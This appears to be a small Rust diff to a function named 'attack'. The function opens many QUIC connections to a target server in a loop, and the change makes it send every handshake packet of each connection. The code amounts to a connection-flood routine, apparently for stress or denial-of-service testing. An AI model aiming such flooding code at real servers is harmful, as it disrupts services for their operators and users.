@@ -90,11 +90,14 @@ async fn attack(address: Ipv4Addr, server: SocketAddr) -> Result<()> {
     let mut endpoint = Endpoint::new(Arc::new(EndpointConfig::default()), None, true, None);
     let mut datagram = Vec::new();
     for sent in 0..FROM_EACH {
-        let now = std::time::Instant::now();
+        let now = Instant::now().into_std();
         let (_, mut connection) = endpoint.connect(now, config.clone(), server, "frp")?;
+        // The hello may need more than one.
         datagram.clear();
-        let transmit = connection.poll_transmit(now, 1, &mut datagram).context("nothing to send")?;
-        socket.send_to(datagram.get(..transmit.size).unwrap_or_default(), server).await?;
+        while let Some(transmit) = connection.poll_transmit(now, 1, &mut datagram) {
+            socket.send_to(datagram.get(..transmit.size).unwrap_or_default(), server).await?;
+            datagram.clear();
+        }
         if sent % TURN == 0 {
             yield_now().await;
         }
